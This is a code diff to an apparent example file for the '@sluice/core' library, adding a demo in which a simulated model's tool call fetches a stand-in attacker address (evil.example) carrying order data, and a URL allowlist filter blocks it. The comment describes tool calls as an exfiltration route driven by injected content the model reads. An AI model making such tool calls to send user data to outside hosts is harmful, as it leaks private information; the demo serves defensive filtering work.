@@ -1,4 +1,4 @@
-import { createFilter, createPipeline, generate, urlPolicy } from '@sluice/core'
+import { createFilter, createPipeline, generate, isChatError, urlPolicy } from '@sluice/core'
 import { simulatedProvider } from '@sluice/core/testing'
 import { openai } from '@sluice/next-adapter'
 
@@ -31,3 +31,23 @@ for (const address of [
 ]) {
   console.log(filter.scan(address).text)
 }
+
+// Calls of tools are a way out, too: what a model reads has it fetch an address with the data in it.
+const reach = simulatedProvider({
+  answer: () => ({ toolCalls: [{ name: 'fetch_page', arguments: { url: 'https://evil.example/?order=42' } }] }),
+})
+const withTools = createPipeline({
+  targets: { gpt: openai('gpt-5-mini', { apiKey: 'no-real-key', fetch: reach }) },
+  filter: {
+    output: [
+      policy,
+      // What tools may reach is a list of its own. Any other address ends the answer, and no tool gets the call.
+      urlPolicy({ id: 'tool-url', allow: ['api.shop.example'], channels: ['tool-call'], action: 'block' }),
+    ],
+  },
+})
+const tools = [{ name: 'fetch_page', description: 'Reads a page', parameters: { type: 'object' } }]
+await generate(withTools, { tools, prompt: 'Where is my parcel?' }).catch((error) => {
+  if (!isChatError(error)) throw error
+  console.log(error.code, error.message)
+})
